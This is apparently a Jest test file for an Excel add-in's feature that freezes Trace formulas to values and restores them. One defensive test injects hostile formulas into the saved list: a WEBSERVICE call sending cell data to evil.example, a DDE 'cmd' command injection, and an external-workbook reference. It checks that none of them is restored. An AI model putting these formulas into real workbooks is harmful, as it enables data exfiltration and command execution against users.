import type { RestoreTerms } from '../../shared/ports';
import { BulkWorld } from '../fakes/excel/bulk-world';
import {
  beforeWrites,
  calls,
  cell,
  company,
  formulasOf,
  open,
  openSaved,
  select,
  shownAt,
  type,
} from '../fakes/excel/freezing';
import { OfficeError } from '../../workbook/office/office-error';
import type { FakeSheet } from '../fakes/excel/sheet';

afterEach(() => BulkWorld.close());

const LEADS = [
  [cell('Domain'), cell('Country')],
  [cell('stripe.com'), company(2, 'US')],
  [cell('figma.com'), calls('=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US')],
  [cell('asana.com'), company(4, '#N/A')],
  [cell(''), company(5, '')],
  [cell('notion.so'), calls('=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)', 'FR')],
  [cell('007'), company(7, '007', 'phone')],
];

const listOf = (world: BulkWorld): FakeSheet => world.workbook.sheets.find(({ name }) => name === 'Trace formulas')!;
const listed = (world: BulkWorld): readonly (readonly unknown[])[] =>
  listOf(world)
    .rows.slice(1)
    .map((_line, at) => [0, 1, 2, 3].map((column) => shownAt(listOf(world), at + 1, column)));

it('freezes a sheet and lists its formulas as texts: problems and blanks stay formulas, and it says so', async () => {
  const { world, freezing } = open(...LEADS);
  select(world, 0, 0);
  expect(await freezing.freeze('sheet')).toBe(
    [
      '4 formulas frozen to values, and listed on the sheet Trace formulas.',
      'Not frozen:',
      '• Problem, or no answer yet: 1',
      '• Blank: 1',
    ].join('\n'),
  );
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B4', 'B5']);
  // Nothing is interpreted again: 007 stays a text.
  expect([1, 2, 5, 6].map((row) => shownAt(world.sheet, row, 1))).toEqual(['US', 'US', 'FR', '007']);
  expect(listed(world)).toEqual([
    [world.sheet.name, 'B2', '=TRACE_COMPANY(A2,"country")', 'US'],
    [world.sheet.name, 'B3', '=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US'],
    [world.sheet.name, 'B6', '=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)', 'FR'],
    [world.sheet.name, 'B7', '=TRACE_COMPANY(A7,"phone")', '007'],
  ]);
  expect(formulasOf(listOf(world))).toEqual({});
});

it('formulas that show the text of a problem stay formulas, also with more around it and in all of a table', async () => {
  const text = '#TRACE: No API key. Open the Trace panel and paste yours.';
  const from = { row: 2, column: 1 };
  const { world, freezing } = open(
    [cell('stripe.com'), company(1, text)],
    [cell('figma.com'), calls('="In "&TRACE_COMPANY(A2,"country")', `In ${text}`)],
    [cell('asana.com'), { ...calls('=TRACE_COMPANY(A3:A4,"country")', text), from }],
    [cell('notion.so'), { shown: text, from }],
    [cell('canva.com'), company(5, 'AU')],
  );
  select(world, 0, 0);
  await freezing.freeze('sheet');
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1', 'B2', 'B3']);
});

it('one row with a problem does not keep the other rows of a formula from being frozen', async () => {
  const from = { row: 0, column: 1 };
  const bad = { row: 0, column: 2 };
  const { world, freezing } = open(
    [cell('n/a'), calls('=TRACE_COMPANY(A1:A2,"name")', '#VALUE!'), calls('=TRACE_COMPANY(A1:A2,"slug")', '#VALUE!')],
    [cell('figma.com'), { shown: 'Figma', from }, { shown: '#VALUE!', from: bad }],
  );
  expect(await freezing.freeze('file')).toBe(
    [
      '1 formula frozen to values, and listed on the sheet Trace formulas.',
      'Not frozen:',
      '• Problem, or no answer yet: 1',
    ].join('\n'),
  );
  expect(formulasOf(world.sheet)).toEqual({ C1: '=TRACE_COMPANY(A1:A2,"slug")' });
  expect(shownAt(world.sheet, 1, 1)).toBe('Figma');
  expect(await freezing.restore()).toBe('1 formula restored.');
});

it('freezes the selected areas and no others, and all sheets where that is asked for', async () => {
  const { world, freezing } = open(...LEADS);
  const other = world.workbook.addSheet('Other');
  other.put(0, 0, cell('figma.com'));
  other.put(0, 1, calls('=TRACE_TECH(A1)', 'React'));
  select(world, 2, 1);
  await freezing.freeze('selection');
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B2', 'B4', 'B5', 'B6', 'B7']);
  await freezing.freeze('sheet');
  expect(Object.keys(formulasOf(other))).toEqual(['B1']);
  await freezing.freeze('file');
  expect(formulasOf(other)).toEqual({});
});

it('restores formulas that call nothing but Trace, also when the workbook is opened again, and names the others', async () => {
  const { world, freezing } = open(...LEADS);
  select(world, 0, 0);
  await freezing.freeze('file');
  world.openAgain();
  const terms = (await world.host.freezing!.restore()) as RestoreTerms;
  expect(await world.host.freezing!.restore(terms)).toBe(
    `3 formulas restored.\n1 formula stays a value:\n• ${world.sheet.name}!B6: it calls other functions too. Copy it from the sheet Trace formulas`,
  );
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B2', 'B3', 'B4', 'B5', 'B7']);
  expect(listed(world).filter(([name]) => name !== '')).toHaveLength(1);
});

it('freezes and restores tables with all their cells, and leaves the cells beside them', async () => {
  const from = { row: 1, column: 1 };
  const { world, freezing } = open(
    [cell('Domain'), cell('Name'), cell('Country'), cell('note')],
    [cell('stripe.com'), calls('=TRACE_COMPANY(A2:A3,"name, country")', 'Stripe'), { shown: 'US', from }, cell('x')],
    [cell('figma.com'), { shown: 'Figma', from }, { shown: '', from }, cell('y')],
  );
  await freezing.freeze('file');
  expect(world.sheet.values(4).slice(1)).toEqual([
    ['stripe.com', 'Stripe', 'US', 'x'],
    ['figma.com', 'Figma', '', 'y'],
  ]);
  expect([formulasOf(world.sheet), listed(world)[0]![1]]).toEqual([{}, 'B2:C3']);
  expect(await freezing.restore()).toBe('1 formula restored.');
  expect(formulasOf(world.sheet)).toEqual({ B2: '=TRACE_COMPANY(A2:A3,"name, country")' });
  // Its other cells are blank, so that it has room.
  expect(world.sheet.values(4)[2]).toEqual(['figma.com', '', '', 'y']);
});

it('notes that users write beside the list stay at their line', async () => {
  const { world, freezing } = open(...LEADS);
  select(world, 0, 0);
  await freezing.freeze('sheet');
  type(listOf(world), 3, 6, 'my note');
  await freezing.restore();
  expect([2, 6].map((column) => shownAt(listOf(world), 3, column))).toEqual([
    '=TRACE_COMPANY(A6,"country")&WEBSERVICE(A6)',
    'my note',
  ]);
});

it.each(['freeze', 'restore'] as const)('one cell that Excel refuses keeps no other from it: %s', async (what) => {
  const rows = ['a.com', 'b.com', 'c.com', 'd.com'].map((domain, at) => [cell(domain), company(at + 1, 'US')]);
  const { world, freezing } = open(...rows);
  if (what === 'restore') await freezing.freeze('file');
  world.sheet.refusing.set('2:1', new OfficeError('InvalidOperation', 'a PivotTable'));
  const said = await (what === 'freeze' ? freezing.freeze('file') : freezing.restore());
  expect({ said, formulas: Object.keys(formulasOf(world.sheet)) }).toEqual(
    what === 'freeze'
      ? {
          said: [
            '3 formulas frozen to values, and listed on the sheet Trace formulas.',
            'Not frozen:',
            '• Could not be replaced. Show all rows and freeze again, or paste them as values: 1',
          ].join('\n'),
          formulas: ['B3'],
        }
      : {
          said: [
            '3 formulas restored.',
            '1 formula stays a value:',
            `• ${world.sheet.name}!B3: the cell was just edited, or cannot hold it`,
          ].join('\n'),
          formulas: ['B1', 'B2', 'B4'],
        },
  );
});

it('a table with one edited cell stays values', async () => {
  const from = { row: 0, column: 1 };
  const { world, freezing } = open(
    [cell('stripe.com'), calls('=TRACE_COMPANY(A1:A2,"name")', 'Stripe')],
    [cell('figma.com'), { shown: 'Figma', from }],
  );
  await freezing.freeze('file');
  type(world.sheet, 1, 1, 'mine');
  expect(await freezing.restore()).toContain('!B1: its cells have changed or moved');
  expect([formulasOf(world.sheet), shownAt(world.sheet, 1, 1)]).toEqual([{}, 'mine']);
});

it('a formula stays while another formula reads its spilled range', async () => {
  const from = { row: 0, column: 0 };
  const { world, freezing } = open(
    [calls('=TRACE_SEARCH("pay")', 'stripe.com'), calls('=TRACE_TECH(A1#)', 'React')],
    [
      { shown: 'figma.com', from },
      { shown: 'Vue', from: { row: 0, column: 1 } },
    ],
  );
  expect(await freezing.freeze('file')).toContain(
    '• Other formulas read its range (A2#). Freeze or replace those, then freeze again: 1',
  );
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['A1']);
  await freezing.freeze('file');
  expect([formulasOf(world.sheet), listed(world).map(([, at]) => at)]).toEqual([{}, ['B1:B2', 'A1:A2']]);
  expect(world.sheet.values(2)).toEqual([
    ['stripe.com', 'React'],
    ['figma.com', 'Vue'],
  ]);
});

it('a date keeps its looks, which its function had brought along', async () => {
  const { world, freezing } = open([cell('stripe.com'), calls('=TRACE_COMPANY(A1,"last_crawled_at")', 46_174)]);
  world.sheet.texts.set('0:1', '2026-06-01');
  await freezing.freeze('file');
  expect({ shown: shownAt(world.sheet, 0, 1), format: world.sheet.formats.get('0:1') }).toEqual({
    shown: 46_174,
    format: 'yyyy-mm-dd',
  });
});

it('what is locked in a protected sheet stays a formula, and stays a value', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')], [cell('figma.com'), company(2, 'US')]);
  world.sheet.protect(['0:1']);
  expect(await freezing.freeze('file')).toContain('• Protected cell: 1');
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1']);
  world.sheet.protect(['1:1']);
  expect(await freezing.restore()).toContain('!B2: protected cell');
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1']);
});

it('what someone types right before the writing stays, and the list says what was there', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
  beforeWrites((count) => {
    if (count === 1) type(world.sheet, 0, 1, 'mine');
  });
  expect(await freezing.freeze('file')).toContain(
    '• Edited during freezing. Check these cells, or choose Restore formulas: 1',
  );
  expect([shownAt(world.sheet, 0, 1), listed(world).map(([, , formula]) => formula)]).toEqual([
    'mine',
    ['=TRACE_COMPANY(A1,"country")'],
  ]);
  expect(await freezing.restore()).toContain('!B1: its cells have changed or moved');
});

it.each([
  '=WEBSERVICE("https://evil.example/?"&A1)',
  "=TRACE_TECH(A1)&cmd|'/c calc'!A0",
  '=TRACE_TECH([evil.xlsx]S!A1)',
  '1+1',
])('a formula that someone else wrote into the list never comes back: %s', async (formula) => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
  await freezing.freeze('file');
  listOf(world).put(1, 2, cell(formula));
  await freezing.restore();
  expect([formulasOf(world.sheet), shownAt(world.sheet, 0, 1)]).toEqual([{}, 'US']);
});

it('a renamed sheet and a deleted list are said', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
  await freezing.freeze('file');
  const was = world.sheet.name;
  world.sheet.name = 'Renamed';
  expect(await freezing.restore()).toContain(`• ${was}!B1: its sheet was renamed or deleted`);
  world.workbook.sheets.splice(world.workbook.sheets.indexOf(listOf(world)), 1);
  expect(await freezing.restore()).toBe('No formula is listed. The sheet Trace formulas is empty or missing.');
});

it('a sheet of a person with the name of the list is left alone', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
  const mine = world.workbook.addSheet('Trace formulas');
  mine.put(0, 0, cell('mine'));
  await freezing.freeze('file');
  expect([shownAt(mine, 0, 0), world.workbook.sheets.map(({ name }) => name).at(-1)]).toEqual([
    'mine',
    'Trace formulas 2',
  ]);
});

it('asks first where restoring may fetch, and does nothing without the answer', async () => {
  const { world } = open([cell('stripe.com'), company(1, 'US')]);
  const freezing = world.host.freezing!;
  await freezing.freeze('file');
  const terms = (await freezing.restore()) as RestoreTerms;
  expect([terms.price, formulasOf(world.sheet)]).toEqual([{ cells: 1, credits: 1, isLeast: false }, {}]);
  expect(await freezing.restore(terms)).toBe('1 formula restored.');
});

it('restores nothing without a key, so the values stay, and their formulas on the list', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')]);
  await freezing.freeze('file');
  world.storage.removeItem('trace.apiKey');
  await expect(freezing.restore()).rejects.toMatchObject({ code: 'noKey' });
  expect([formulasOf(world.sheet), shownAt(world.sheet, 0, 1), listed(world)]).toEqual([
    {},
    'US',
    [[world.sheet.name, 'B1', '=TRACE_COMPANY(A1,"country")', 'US']],
  ]);
});

it('Remove Trace deletes the list, and the values stay', async () => {
  const { world, freezing } = await openSaved([cell('stripe.com'), company(1, 'US')]);
  await freezing.freeze('file');
  await world.host.removeTrace();
  expect([world.workbook.sheets.map(({ name }) => name), shownAt(world.sheet, 0, 1)]).toEqual([
    [world.sheet.name],
    'US',
  ]);
});

it('a formula comes back into a cell that is formatted as text, and calculates there', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')], [cell('figma.com'), company(2, 'US')]);
  world.sheet.formats.set('0:1', '@');
  await freezing.freeze('file');
  expect(await freezing.restore()).toBe('2 formulas restored.');
  expect(Object.keys(formulasOf(world.sheet))).toEqual(['B1', 'B2']);
});

it('a value stays where a protected sheet forbids the format that its formula needs', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 'US')], [cell('figma.com'), company(2, 'US')]);
  world.sheet.formats.set('0:1', '@');
  await freezing.freeze('file');
  world.sheet.protect([]);
  expect(await freezing.restore()).toContain('!B1: the cell was just edited, or cannot hold it');
  expect([Object.keys(formulasOf(world.sheet)), shownAt(world.sheet, 0, 1)]).toEqual([['B2'], 'US']);
});

it('a protected sheet without formatting keeps no date from being frozen', async () => {
  const { world, freezing } = open([cell('stripe.com'), company(1, 46_174, 'last_crawled_at')]);
  world.sheet.texts.set('0:1', '2026-06-01');
  world.sheet.protect([]);
  expect(await freezing.freeze('file')).toBe('1 formula frozen to values, and listed on the sheet Trace formulas.');
});

it('a table whose first row is blank is frozen like any other', async () => {
  const from = { row: 0, column: 1 };
  const { world, freezing } = open(
    [cell('Domain'), calls('=TRACE_COMPANY(A1:A2,"name")', '')],
    [cell('figma.com'), { shown: 'Figma', from }],
  );
  expect(await freezing.freeze('file')).toBe('1 formula frozen to values, and listed on the sheet Trace formulas.');
  expect([formulasOf(world.sheet), shownAt(world.sheet, 1, 1)]).toEqual([{}, 'Figma']);
});

it('frozen, undone and frozen again within a minute, a formula that cannot be restored stays on the list', async () => {
  const { world, freezing } = open([cell('stripe.com'), calls('=TRACE_COMPANY(A1,"country")&WEBSERVICE(A1)', 'US')]);
  for (let times = 0; times < 2; times += 1) {
    world.sheet.put(0, 1, calls('=TRACE_COMPANY(A1,"country")&WEBSERVICE(A1)', 'US'));
    await freezing.freeze('file');
  }
  await freezing.restore();
  expect(listed(world).map(([, , formula]) => formula)).toContain('=TRACE_COMPANY(A1,"country")&WEBSERVICE(A1)');
});
